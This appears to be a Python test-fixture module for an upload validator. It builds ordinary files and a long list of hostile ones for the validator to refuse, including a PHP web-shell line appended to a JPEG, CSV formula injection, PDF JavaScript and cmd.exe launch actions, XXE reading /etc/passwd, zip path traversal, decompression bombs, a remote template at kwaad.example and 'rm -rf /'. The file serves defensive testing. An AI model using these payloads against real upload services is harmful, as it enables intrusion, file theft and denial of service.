"""Small files as people hand them in, and hostile ones as they should not be: name → content."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Mapping

import pikepdf
from PIL import Image

OPEN_XML = "http://schemas.openxmlformats.org"
RELATIONS = f"{OPEN_XML}/officeDocument/2006/relationships"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORD = (
    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Zo ging het.</w:t></w:r></w:p></w:body></w:document>"
)
SHEET = b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
ODT = b"application/vnd.oasis.opendocument.text"


def types(main: str, part: str, more: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?><Types xmlns="{OPEN_XML}/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="{part}" ContentType="{main}"/>'
        f"{more}</Types>"
    ).encode()


TYPES = types(WORD_MAIN, "/word/document.xml")
SHEET_TYPES = types(SHEET_MAIN, "/xl/workbook.xml")


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        f'<Relationships xmlns="{OPEN_XML}/package/2006/relationships"><Relationship Id="r" TargetMode="{mode}" '
        f'Type="{RELATIONS}/{kind}" Target="{target}"/></Relationships>'
    ).encode()


def written(inside: str) -> bytes:
    """The content of a text of LibreOffice."""
    spaces = " ".join(
        f'xmlns:{each}="urn:oasis:names:tc:opendocument:xmlns:{each}:1.0"' for each in ("office", "text", "draw")
    )
    return (
        f'<?xml version="1.0"?><office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink">{inside}'
        "</office:document-content>"
    ).encode()


CONTENT = written("<office:body><office:text><text:p>Zo ging het.</text:p></office:text></office:body>")


def pdf(change: object = None) -> bytes:
    """A PDF of one page; `change` may do something to it before it is written."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    if callable(change):
        change(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def picture(form: str, size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "#6b3a78").save(out, form)
    return out.getvalue()


def jpg() -> bytes:
    return picture("JPEG")


def png() -> bytes:
    return picture("PNG")


def packed(parts: Mapping[str, bytes], *, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(more: Mapping[str, bytes] | None = None) -> bytes:
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": WORD, **(more or {})})


def xlsx(more: Mapping[str, bytes] | None = None) -> bytes:
    return packed({"[Content_Types].xml": SHEET_TYPES, "xl/workbook.xml": SHEET, **(more or {})})


def odt(more: Mapping[str, bytes] | None = None) -> bytes:
    return packed({"mimetype": ODT, "content.xml": CONTENT, **(more or {})})


def txt() -> bytes:
    return "Zo ging het, één voor één. Ik zei: 2 < 3.\r\n".encode()


def good() -> dict[str, bytes]:
    motion = b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 64  # the film that a phone keeps behind a photo
    return {
        "brief.pdf": pdf(),
        "foto.jpg": jpg(),
        "foto.JPEG": jpg(),
        "bewegende foto.jpg": jpg() + motion,
        "schermafdruk.png": png(),
        "plaatje.webp": picture("WEBP"),
        "verslag.docx": docx({"word/media/foto.png": png()}),
        "overzicht.xlsx": xlsx(),
        "brief.odt": odt({"Thumbnails/thumbnail.png": png()}),
        "aantekening.txt": "Zo ging het, één voor één. Ik zei: 2 < 3.\r\n".encode(),
        "oude aantekening.txt": "Zo ging het, één voor één.".encode("cp1252"),
    }


def hostile() -> dict[str, bytes]:
    """Every one of these must be refused, whatever its name or its first bytes say."""
    html = b"<!DOCTYPE html><script>alert(1)</script>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    return {
        **_by_name(html, svg),
        **_pictures(html),
        **_documents(html),
        **_archives(),
        **_texts(html, svg),
    }


def _by_name(html: bytes, svg: bytes) -> dict[str, bytes]:
    return {
        "pagina.html": html,
        "plaatje.svg": svg,
        "plaatje.gif": b"GIF89a" + b"\x00" * 20,
        "programma.exe": b"MZ" + b"\x00" * 60,
        "macro.docm": docx(),
        "archief.zip": packed({"a.txt": b"a"}),
        "zonder": b"tekst",
        ".pdf": pdf(),
        "rekening.pdf.exe": pdf(),
        "rekening.pdf ": b"MZ",
        "tekst.txt\x00.exe": b"MZ",
        "omgekeerd\u202efdp.exe": b"MZ",
        "foto.heic": b"\x00\x00\x00\x18ftypheic",
        "script.js": b"alert(1)",
        "blad.csv": b"=cmd|'/c calc'!A1",
        "leeg.pdf": b"",
        "leeg.txt": b"",
    }


def _pictures(html: bytes) -> dict[str, bytes]:
    flood = bytearray(png())
    flood[16:24] = (60_000).to_bytes(4, "big") * 2  # says that it is 60,000 by 60,000 pixels
    wide = bytearray(jpg())
    at = wide.find(b"\xff\xc0") + 5
    wide[at : at + 4] = (65_000).to_bytes(2, "big") * 2
    return {
        "pagina.jpg": html,
        "pagina.png": html,
        "gif.png": b"GIF89a" + b"\x00" * 20,
        "png.jpg": png(),
        "jpg.png": jpg(),
        "pdf.jpg": pdf(),
        "kop.jpg": b"\xff\xd8\xff\xe0" + b"\x00" * 100,
        "kop.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 100,
        "kop.webp": b"RIFF" + b"\x00" * 100,
        "avi.webp": b"RIFF\x24\x00\x00\x00AVI LIST",
        "halve.jpg": picture("JPEG", (400, 300))[:700],
        "halve.png": picture("PNG", (400, 300))[:200],
        "zip-erachter.jpg": jpg() + packed({"a.html": html}),
        "html-erachter.jpg": jpg() + html,
        "php-erachter.jpg": jpg() + b"<?php system($_GET[0]);",
        "pdf-erachter.jpg": jpg() + pdf(),
        "zip-erachter.png": png() + packed({"a.html": html}),
        "html-erachter.png": png() + html,
        "vloed.png": bytes(flood),
        "vloed.jpg": bytes(wide),
        "zip-erachter.webp": picture("WEBP") + packed({"a.html": html}),
        "bom.png": _png_bomb(),
    }


def _png_bomb() -> bytes:
    """Seven by seven thousand pixels of nothing: 147 MB from 150 kB."""
    return picture("PNG", (7_000, 7_000))


def _documents(html: bytes) -> dict[str, bytes]:
    def script(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

    def launch(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")

    def named_script(document: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", action])))

    def attached(document: pikepdf.Pdf) -> None:
        document.attachments["virus.exe"] = b"MZ" + b"\x00" * 60

    def on_page(document: pikepdf.Pdf) -> None:
        document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="x()"))

    def form(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"))

    def film(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])

    def bomb(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, zlib.compress(b"\x00" * 60_000_000, 9))
        stream.Filter = pikepdf.Name.FlateDecode
        document.pages[0].Contents = document.make_indirect(stream)

    def nested_bomb(document: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(document, zlib.compress(zlib.compress(b"\x00" * 60_000_000, 9), 9))
        stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
        document.pages[0].Contents = document.make_indirect(stream)

    def locked() -> bytes:
        out = io.BytesIO()
        document = pikepdf.new()
        document.add_blank_page()
        document.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
        return out.getvalue()

    def pages() -> bytes:
        return pdf(lambda document: [document.add_blank_page() for _ in range(2_100)])

    return {
        "pagina.pdf": html,
        "kop.pdf": b"%PDF-1.7",
        "kop en html.pdf": b"%PDF-1.7\n" + html,
        "halve.pdf": pdf()[: len(pdf()) // 2],
        "geen pagina.pdf": _no_page(),
        "script.pdf": pdf(script),
        "script bij naam.pdf": pdf(named_script),
        "script bij bladzijde.pdf": pdf(on_page),
        "start.pdf": pdf(launch),
        "bijlage.pdf": pdf(attached),
        "formulier.pdf": pdf(form),
        "film.pdf": pdf(film),
        "bom.pdf": pdf(bomb),
        "dubbele bom.pdf": pdf(nested_bomb),
        "op slot.pdf": locked(),
        "te veel.pdf": pages(),
        "zip-erachter.pdf": pdf() + packed({"a.html": html}),
        "html-erachter.pdf": pdf() + html,
        "elf.pdf": b"\x7fELF" + b"\x00" * 60,
        "html-ervoor.pdf": html + pdf(),
    }


def _no_page() -> bytes:
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def _archives() -> dict[str, bytes]:
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    laughs = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;&x;">]><a>&y;</a>'
    template = (
        b'<Relationships><Relationship Id="r" TargetMode="External" Target="http://kwaad.example/a.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    macros = (
        b'<Types><Override PartName="/a" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for _ in range(2):
            archive.writestr("[Content_Types].xml", TYPES)
            archive.writestr("word/document.xml", WORD)
    return {
        "archief.docx": packed({"a.txt": b"a"}),
        "blad.docx": xlsx(),
        "brief.xlsx": docx(),
        "brief.odt": docx(),
        "kop.docx": b"PK\x03\x04" + b"\x00" * 100,
        "halve.docx": docx()[:200],
        "html-erachter.docx": docx() + b"<html><script>",
        "macro.docx": docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "macro.xlsx": xlsx({"xl/macrosheets/sheet1.xml": SHEET}),
        "macrosoort.docx": docx({"[Content_Types].xml": macros}),
        "activex.docx": docx({"word/activeX/activeX1.xml": WORD}),
        "ole.docx": docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "programma.docx": docx({"word/a.exe": b"MZ"}),
        "archief-in-archief.docx": docx({"word/a.zip": packed({"b": b"b"})}),
        "entiteit.docx": docx({"word/document.xml": entity}),
        "lachen.docx": docx({"word/document.xml": laughs}),
        "kapotte xml.docx": docx({"word/document.xml": b"<w:document><w:p>"}),
        "sjabloon.docx": docx({"word/_rels/settings.xml.rels": template}),
        "omhoog.docx": docx({"../../etc/passwd": b"x"}),
        "van boven.docx": docx({"/etc/passwd": b"x"}),
        "dubbel.docx": out.getvalue(),
        "bom.docx": docx({"word/media/a.png": b"\x00" * 90_000_000}),
        "zware bom.docx": docx({"word/media/a.png": b"\x00" * 60_000_000, "word/media/b.png": b"\x00" * 60_000_000}),
        "veel.docx": docx({f"word/{number}.xml": b"<a/>" for number in range(2_100)}),
        "script.odt": odt({"Scripts/python/a.py": b"x"}),
        "basic.odt": odt({"Basic/Standard/Module1.xml": b"<a/>"}),
        "ander soort.odt": odt({"mimetype": b"application/zip"}),
        "op slot.docx": _locked_archive(),
    }


def _locked_archive() -> bytes:
    """Says of each part that it needs a password."""
    data = bytearray(docx())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _texts(html: bytes, svg: bytes) -> dict[str, bytes]:
    return {
        "pagina.txt": html,
        "plaatje.txt": svg,
        "xml.txt": b'<?xml version="1.0"?><html/>',
        "pdf.txt": pdf(),
        "programma.txt": b"MZ\x90\x00" + b"\x00" * 60,
        "nul.txt": b"een\x00twee",
        "bellen.txt": b"\x07\x1b[2Jhallo",
        "utf16.txt": "hallo".encode("utf-16"),
        "shell.txt": b"#!/bin/sh\nrm -rf /\n",
        "postscript.txt": b"%!PS-Adobe\n",
        "binair.txt": bytes(range(256)),
    }
